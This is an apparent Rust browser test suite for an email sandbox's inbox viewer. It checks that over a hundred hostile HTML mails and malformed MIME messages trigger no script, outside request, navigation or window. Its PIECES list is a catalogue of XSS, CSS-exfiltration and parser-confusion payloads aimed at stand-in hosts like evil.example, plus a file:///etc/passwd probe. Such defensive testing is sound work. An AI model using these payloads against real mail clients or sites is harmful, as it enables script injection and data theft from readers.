//! Mail that attacks whoever reads it.

use fantoccini::Locator;
use serde_json::json;
use smtp2go_sdk::{Client, Email, Mime};

use crate::support::{Browser, eventually, run, sandbox};

/// What a script would do if it ran: ask for something outside, tell the page around it, and leave
/// a window. `EVIL` becomes an address outside, a different one each time.
const SCRIPT: &str =
    "new Image().src='EVIL/script';parent.postMessage('ran','*');open('EVIL/open')";

/// Pieces of HTML; `EVIL` is an address outside and `SCRIPT` the script above.
const PIECES: &[&str] = &[
    // Scripts.
    "<script>SCRIPT</script>",
    "<script src='EVIL/a.js'></script>",
    "<script type=module>import 'EVIL/a.js'</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"EVIL/s\"]}]}</script>",
    "<scr<script>ipt>SCRIPT</scr</script>ipt>",
    "<ScRiPt\n>SCRIPT</sCrIpT\t>",
    "</title></style></textarea><script>SCRIPT</script>",
    "<!--><script>SCRIPT</script>-->",
    "<noscript><p title=\"</noscript><img src=EVIL/n onerror=SCRIPT>\">",
    "<template shadowrootmode=open><script>SCRIPT</script><img src=EVIL/shadow></template>",
    "<xmp><script></xmp><img src=x onerror=\"SCRIPT\">",
    // Handlers.
    "<img src=x onerror=\"SCRIPT\">",
    "<body onload=\"SCRIPT\" onpageshow=\"SCRIPT\" background='EVIL/bg'>",
    "<svg onload=\"SCRIPT\"></svg>",
    "<input autofocus onfocus=\"SCRIPT\">",
    "<details open ontoggle=\"SCRIPT\"><summary>x</summary></details>",
    "<video autoplay onloadstart=\"SCRIPT\"><source src=EVIL/v onerror=\"SCRIPT\"></video>",
    "<marquee onstart=\"SCRIPT\">x</marquee>",
    "<style>@keyframes k{from{color:red}}</style><p style='animation:k 1s' onanimationstart=\"SCRIPT\">x",
    "<a id=x tabindex=1 onfocus=\"SCRIPT\" autofocus>x</a>",
    "<div popover id=p onbeforetoggle=\"SCRIPT\">x</div><button popovertarget=p>x</button>",
    // Links that are scripts.
    "<a href=\"javascript:SCRIPT\">x</a>",
    "<a target=_blank href=\"JaVaScRiPt:SCRIPT\">x</a>",
    "<a target=_top href=\" &#106;avascript:SCRIPT\">x</a>",
    "<a target=_self href=\"java\tscript:SCRIPT\">x</a>",
    "<a href=\"data:text/html,<script>SCRIPT</script>\">x</a>",
    "<a target=_self href=\"data:text/html,<script>SCRIPT</script>\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<map name=m><area shape=rect coords=0,0,99,99 href=\"javascript:SCRIPT\"></map><img usemap=#m width=99 height=99>",
    "<svg><a href=\"javascript:SCRIPT\"><text y=20>x</text></a></svg>",
    "<math href=\"javascript:SCRIPT\"><mtext>x</mtext></math>",
    "<form><button formaction=\"javascript:SCRIPT\">x</button></form>",
    // Forms.
    "<form action=EVIL/form method=post><input name=a value=b><button>x</button></form>",
    "<form action=EVIL/form target=_blank><button>x</button></form>",
    "<form action=EVIL/form target=_top><input type=submit value=x></form>",
    "<form id=f></form><button form=f formaction=EVIL/form>x</button>",
    "<form action='/_inbox/reset' method=post><button>x</button></form>",
    "<form action='/_inbox/reset' method=post target=_top><button>x</button></form>",
    "<form action=EVIL/f><input type=image src=EVIL/image></form>",
    "<isindex action=EVIL/i>",
    // Going elsewhere by itself.
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:SCRIPT'>",
    "<meta http-equiv=refresh content='0;url=?remote=1'><img src=EVIL/after-refresh>",
    "<meta http-equiv=Content-Security-Policy content=\"img-src *; script-src * 'unsafe-inline'\"><img src=EVIL/csp><script>SCRIPT</script>",
    "<meta http-equiv=Link content='<EVIL/l>; rel=preload; as=image'>",
    "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=x-dns-prefetch-control content=on><a href=EVIL>x-not-clicked</a>",
    "<base href='EVIL/'><img src=relative>",
    "<base target=_top><base href=//evil.example><link rel=stylesheet href=a.css>",
    // Hints.
    "<link rel=preconnect href=EVIL>",
    "<link rel=dns-prefetch href=EVIL>",
    "<link rel=prefetch href=EVIL/prefetch>",
    "<link rel=preload as=image href=EVIL/preload>",
    "<link rel=preload as=image imagesrcset='EVIL/srcset 1x'>",
    "<link rel=modulepreload href=EVIL/module>",
    "<link rel=prerender href=EVIL/prerender>",
    "<link rel=stylesheet href=EVIL/style.css>",
    "<LINK/REL=preconnect/HREF=EVIL>",
    "<link\x0crel=preconnect\x0chref=EVIL>",
    "<link rel=icon href=EVIL/icon><link rel=manifest href=EVIL/m><link rel=expect href=EVIL>",
    "<svg><foreignObject><link xmlns='http://www.w3.org/1999/xhtml' rel=preconnect href=EVIL></link></foreignObject></svg>",
    "<table><link rel=preconnect href=EVIL></table>",
    "<template shadowrootmode=open><link rel=preconnect href=EVIL></template>",
    // Pictures and other things from outside.
    "<img src=EVIL/img>",
    "<img src=//evil.example/img>",
    "<img srcset='EVIL/1 1x, EVIL/2 2x'>",
    "<img src=x lowsrc=EVIL/low dynsrc=EVIL/dyn longdesc=EVIL/long loading=eager>",
    "<picture><source srcset=EVIL/p><img src=x></picture>",
    "<image href=EVIL/image src=EVIL/image2>",
    "<table background=EVIL/t><tr><td background=EVIL/td>x</table>",
    "<video poster=EVIL/poster src=EVIL/video autoplay></video>",
    "<audio src=EVIL/audio autoplay preload=auto></audio>",
    "<video><track default kind=subtitles src=EVIL/track></video>",
    "<bgsound src=EVIL/sound>",
    "<input type=image src=EVIL/input>",
    "<object data=EVIL/object></object>",
    "<object data=EVIL/o type=text/html><param name=src value=EVIL/param></object>",
    "<embed src=EVIL/embed>",
    "<applet code=x codebase=EVIL></applet>",
    "<img src='file:///etc/passwd'><img src='blob:EVIL/x'>",
    "<a href=/ ping=EVIL/ping>x</a>",
    // Frames.
    "<iframe src=EVIL/frame></iframe>",
    "<iframe srcdoc=\"<script>SCRIPT</script><link rel=preconnect href=EVIL><img src=EVIL/srcdoc>\"></iframe>",
    "<iframe src=\"javascript:SCRIPT\"></iframe>",
    "<iframe src=\"data:text/html,<script>SCRIPT</script>\"></iframe>",
    "<iframe src=/_inbox/reset></iframe>",
    "<frameset cols=*><frame src=EVIL/f></frameset>",
    "<fencedframe></fencedframe><portal src=EVIL/portal></portal>",
    // SVG and MathML.
    "<svg><script>SCRIPT</script></svg>",
    "<svg><script href=EVIL/svg.js /></svg>",
    "<svg><image href=EVIL/svgimage width=9 height=9 /></svg>",
    "<svg><image xlink:href=EVIL/xlink width=9 height=9 /></svg>",
    "<svg><use href=EVIL/use#a /></svg>",
    "<svg><filter id=a><feImage href=EVIL/fe /></filter><rect filter=url(#a) width=9 height=9 /></svg>",
    "<svg><animate onbegin=\"SCRIPT\" attributeName=x dur=1s /></svg>",
    "<svg><a><set attributeName=href to=\"javascript:SCRIPT\"/><text y=20>x</text></a></svg>",
    "<svg><style>@import 'EVIL/svg.css';</style></svg>",
    "<svg><foreignObject><img src=x onerror=\"SCRIPT\"></foreignObject></svg>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='SCRIPT'><image href='EVIL/inner'/></svg>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"SCRIPT\"></style></mglyph></table></mtext></math>",
    // Styles that give something away.
    "<style>@import 'EVIL/import.css';</style>",
    "<style>@import url(EVIL/import2.css) screen;</style>",
    "<style>body{background:url(EVIL/css)} *{list-style:url(EVIL/ls);cursor:url(EVIL/c),auto}</style><ul><li>x</ul>",
    "<p style='background:url(EVIL/inline)'>x</p>",
    "<p style='background:image-set(url(EVIL/set) 1x)'>x</p>",
    "<style>@font-face{font-family:f;src:url(EVIL/font)}*{font-family:f}</style>text",
    "<style>input[value^=a]{background:url(EVIL/attribute)}</style><input value=abc>",
    "<style>:visited{background:url(EVIL/visited)} a:link{content:url(EVIL/content)}</style><a href=/>x-not-clicked</a>",
    "<style>html:has(body){border-image:url(EVIL/has)} ::selection{background:url(EVIL/sel)}</style>",
    "<style>@namespace url(EVIL/ns); @media print{body{background:url(EVIL/print)}} p{mask:url(EVIL/mask);filter:url(EVIL/filter#a);clip-path:url(EVIL/clip#a);shape-outside:url(EVIL/shape)}</style><p>x",
    "<p style='behavior:url(EVIL/b);-moz-binding:url(EVIL/m);width:expression(SCRIPT)'>x",
    // What is not right.
    "\u{0}<scr\u{0}ipt>SCRIPT</scr\u{0}ipt>",
    "<img src=x onerror=\u{ff1c}SCRIPT>\u{202e}\u{feff}\u{fffe}",
    "<<<<img<img src='EVIL/x'onerror='SCRIPT'>",
    "+ADw-script+AD4-SCRIPT+ADw-/script+AD4-",
    "<img \"\"\"><script>SCRIPT</script>\">",
    "<a href='EVIL' style='position:fixed;inset:0' target=_top>x-not-clicked</a>",
    "<?xml version='1.0'?><?xml-stylesheet href='EVIL/x.xsl'?><!DOCTYPE x SYSTEM 'EVIL/dtd' [<!ENTITY a SYSTEM 'EVIL/entity'>]><p>&a;",
];

fn fill(piece: &str, number: usize) -> String {
    piece
        .replace("SCRIPT", SCRIPT)
        .replace("EVIL", &format!("http://evil-{number}.example"))
}

#[test]
fn a_hundred_hostile_mails_do_nothing() {
    assert!(PIECES.len() >= 100, "{}", PIECES.len());
    run(async {
        let (sandbox, client) = sandbox().await;
        let browser = Browser::open().await;
        // In every page, before all else: what frames say, and what opens.
        let listen =
            "window.heard = []; addEventListener('message', event => heard.push(event.data))";
        let source = json!({ "source": listen });
        browser
            .command("Page.addScriptToEvaluateOnNewDocument", source)
            .await;

        for (number, piece) in PIECES.iter().enumerate() {
            let html = fill(piece, number);
            // In what the page itself shows too.
            let subject: String = html.chars().filter(|one| !one.is_control()).collect();
            let sender = format!("\"{}\" <a@example.com>", name(&html));
            let mail = Email::new(sender, subject)
                .to("b@example.net")
                .html(html.as_str())
                .text(html.as_str());
            look_at(&browser, &client, &sandbox, mail, piece).await;
        }
        // Much of it.
        let mut large = "<div><b><table>".repeat(20_000);
        large.push_str(&fill("<script>SCRIPT</script><img src=EVIL/large>", 900));
        let mail = Email::new("a@example.com", "x".repeat(900))
            .to("b@example.net")
            .html(large);
        look_at(&browser, &client, &sandbox, mail, "large").await;

        // Messages that are no messages.
        for (number, message) in broken_messages().into_iter().enumerate() {
            let sent = client.send_mime(Mime::from_bytes(message)).await.unwrap();
            let id = sent.email_id.as_deref().unwrap();
            for part in ["", "?part=text", "?part=headers", "?part=source"] {
                let page = format!("{}_inbox/mails/{id}{part}", sandbox.inbox_url());
                browser.goto(&page).await;
                nothing_happened(&browser, &format!("message {number}")).await;
            }
        }

        // That all of this would have been noticed: with leave, a picture is fetched.
        let html =
            "<img src=http://allowed.example/pixel><script>parent.postMessage('ran','*')</script>";
        let mail = Email::new("a@example.com", "Newsletter")
            .to("b@example.net")
            .html(html);
        let sent = client.send(mail).await.unwrap();
        let id = sent.email_id.as_deref().unwrap();
        browser
            .goto(&format!("{}_inbox/mails/{id}", sandbox.inbox_url()))
            .await;
        nothing_happened(&browser, "before leave").await;
        let link = browser
            .window
            .find(Locator::LinkText("Load remote content"))
            .await
            .unwrap();
        link.click().await.unwrap();
        let pixel = eventually(|| {
            let seen = browser.outside.seen();
            (!seen.is_empty()).then_some(seen)
        });
        let seen = pixel.await.expect("the picture is fetched");
        assert_eq!(seen, ["GET /pixel HTTP/1.1"]);
        assert_eq!(browser.run("return heard").await, json!([]));
        assert!(!sandbox.mails().is_empty(), "a mail has reset the sandbox");
        browser.close().await;
    });
}

/// A name that a header of JSON takes.
fn name(html: &str) -> String {
    html.chars()
        .filter(|one| !one.is_control() && !"\"\\<>,;@".contains(*one))
        .take(60)
        .collect()
}

async fn look_at(
    browser: &Browser,
    client: &Client,
    sandbox: &smtp2go_sandbox::Sandbox,
    mail: Email,
    what: &str,
) {
    let sent = client
        .send(mail)
        .await
        .unwrap_or_else(|error| panic!("{what}: {error}"));
    let id = sent.email_id.as_deref().unwrap();
    let page = format!("{}_inbox/mails/{id}", sandbox.inbox_url());
    // `goto` waits for the page and its frame.
    browser.goto(&page).await;
    let before = browser.window.windows().await.unwrap().len();
    let frame = browser.window.find(Locator::Css("iframe")).await.unwrap();
    frame.enter_frame().await.unwrap();
    // Somebody clicks on what can be clicked, but for plain links to the outside.
    let elements = "a, button, area, input[type=image], input[type=submit], summary";
    for element in browser
        .window
        .find_all(Locator::Css(elements))
        .await
        .unwrap()
    {
        let text = element.text().await.unwrap_or_default();
        if !text.contains("x-not-clicked") {
            let _ = element.click().await;
        }
    }
    browser.window.enter_parent_frame().await.unwrap();
    nothing_happened(browser, what).await;
    // Windows that opened are empty, and closed again.
    let windows = browser.window.windows().await.unwrap();
    if windows.len() > before {
        let own = browser.window.window().await.unwrap();
        for window in windows.into_iter().filter(|window| *window != own) {
            browser.window.switch_to_window(window).await.unwrap();
            let address = browser.run("return location.href").await;
            let address = address.as_str().unwrap_or_default();
            let harmless =
                address.starts_with(&sandbox.inbox_url()) || address.starts_with("about:blank");
            assert!(harmless, "{what} opened {address}");
            nothing_happened(browser, what).await;
            browser.window.close_window().await.unwrap();
        }
        browser.window.switch_to_window(own).await.unwrap();
    }
    let address = browser.window.current_url().await.unwrap();
    assert_eq!(address.as_str(), page, "{what} went elsewhere");
}

async fn nothing_happened(browser: &Browser, what: &str) {
    let seen = browser.outside.seen();
    assert!(seen.is_empty(), "{what} asked for {seen:?}");
    let heard = browser.run("return window.heard ?? []").await;
    assert_eq!(heard, json!([]), "{what} ran");
}

/// Messages with broken encodings and structures, each with something in it that must not happen.
fn broken_messages() -> Vec<Vec<u8>> {
    let evil = fill(
        "<script>SCRIPT</script><img src=EVIL/mime onerror=\"SCRIPT\">",
        901,
    );
    let head = "From: a@example.com\r\nTo: b@example.net\r\n";
    let html = |more: &str, body: &[u8]| {
        let start = format!("{head}{more}\r\n\r\n");
        [start.as_bytes(), body].concat()
    };
    let mut messages = vec![
        html("Content-Type: text/html; charset=utf-7", evil.as_bytes()),
        html("Content-Type: text/html; charset=no-such", evil.as_bytes()),
        html(
            "Content-Type: text/html; charset=utf-8",
            &[b"\xff\xfe\xc3\x28", evil.as_bytes()].concat(),
        ),
        html(
            "Content-Type: text/html\r\nContent-Transfer-Encoding: base64",
            b"PHNjcmlwd*==\xff",
        ),
        html(
            "Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable",
            b"=3Cscript=3E=ZZ=\r\n",
        ),
        html(
            "Content-Type: multipart/mixed; boundary=x",
            b"--x\r\n--x\r\n\r\n--x--",
        ),
        html("Content-Type: multipart/mixed", evil.as_bytes()),
        html("Content-Type: image/svg+xml", evil.as_bytes()),
        html(
            "Subject: =?utf-8?b?PHNjcmlwdD4=?= =?x?q?=zz?=\r\nContent-Type: text/html",
            evil.as_bytes(),
        ),
        html(
            "X: \"><script>alert(1)</script>\r\nContent-Type: message/rfc822",
            evil.as_bytes(),
        ),
    ];
    let nested: String = (0..200)
        .map(|depth| {
            format!("Content-Type: multipart/mixed; boundary=b{depth}\r\n\r\n--b{depth}\r\n")
        })
        .collect();
    messages.push(html(nested.trim_end(), b""));
    messages
}
